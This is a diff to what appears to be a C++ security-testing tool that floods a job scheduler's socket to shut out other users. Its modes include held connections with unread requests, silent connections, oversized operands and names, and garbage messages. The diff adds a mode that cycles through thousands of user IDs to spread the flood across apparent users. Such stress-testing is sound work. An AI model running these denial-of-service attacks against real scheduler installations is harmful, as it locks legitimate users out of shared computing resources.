@@ -1,12 +1,15 @@
 // What somebody without rights does to keep others from the scheduler.
 //   attacker HOME PORT KIND SECONDS
 // KIND, on the socket of the home directory unless it says otherwise:
-//   unread     connections, as many as there may be, each with nine requests whose replies are not
-//   read silent     connections that say nothing, one after the other operands   commands that name
-//   as much as a command may names      messages whose sender's name is as long as a message may be
-//   questions  what everybody may ask, on fifty connections at once
-//   garbage    at PORT: what is no message
-//   ring       at PORT, which is a resource manager's: news of nothing
+// - unread: as many connections as there may be, each with nine requests, no reply read
+// - numbers: the same by three thousand users without a name, as somebody has them in a user
+//   namespace; run by root
+// - silent: connections that say nothing, one after the other
+// - operands: commands that name as much as a command may
+// - names: messages whose sender's name is as long as a message may be
+// - questions: what everybody may ask, on fifty connections at once
+// - garbage: at PORT, what is no message
+// - ring: at PORT, which is a resource manager's, news of nothing
 // Says at the end how often it did so.
 #include <fcntl.h>
 #include <fmt/format.h>
@@ -127,13 +130,14 @@ class Connection {
   int file_;
 };
 
-/// Keeps as many connections as it can, each begun by `begin`.
-template <class Begin>
-long hold_connections(const Target& target, Begin begin) {
+/// Keeps as many connections as it can, each begun by `begin`, and `prepare` before it.
+template <class Begin, class Prepare>
+long hold_connections(const Target& target, Begin begin, Prepare prepare) {
   constexpr std::size_t kMost = 2500;
   std::deque<Connection> held;
   long opened = 0;
   while (!target.over()) {
+    prepare();
     auto one = Connection::to_socket(target);
     if (one.open()) {
       begin(one);
@@ -148,11 +152,31 @@ long hold_connections(const Target& target, Begin begin) {
 long unread(const Target& target) {
   std::string nine;
   for (int i = 0; i < 9; ++i) nine += message(own_name(), command("showq"));
-  return hold_connections(target, [&](const Connection& one) { one.send(nine); });
+  return hold_connections(
+      target, [&](const Connection& one) { one.send(nine); }, [] {});
+}
+
+long numbers(const Target& target) {
+  constexpr uid_t kFirst = 3'000'000'000;
+  constexpr long kMany = 3000;
+  long user = 0;
+  return hold_connections(
+      target,
+      [&](const Connection& one) {
+        const auto name = std::to_string(::geteuid());
+        std::string nine;
+        for (int i = 0; i < 9; ++i) nine += message(name, command("showq"));
+        one.send(nine);
+      },
+      [&] {
+        if (::seteuid(0) != 0 || ::seteuid(kFirst + static_cast<uid_t>(user++ % kMany)) != 0)
+          std::exit(2);
+      });
 }
 
 long silent(const Target& target) {
-  return hold_connections(target, [](const Connection&) {});
+  return hold_connections(
+      target, [](const Connection&) {}, [] {});
 }
 
 long operands(const Target& target) {
@@ -230,7 +254,7 @@ struct Kind {
 };
 constexpr Kind kKinds[] = {{"unread", unread}, {"silent", silent},       {"operands", operands},
                            {"names", names},   {"questions", questions}, {"garbage", garbage},
-                           {"ring", ring}};
+                           {"ring", ring},     {"numbers", numbers}};
 
 }  // namespace
 
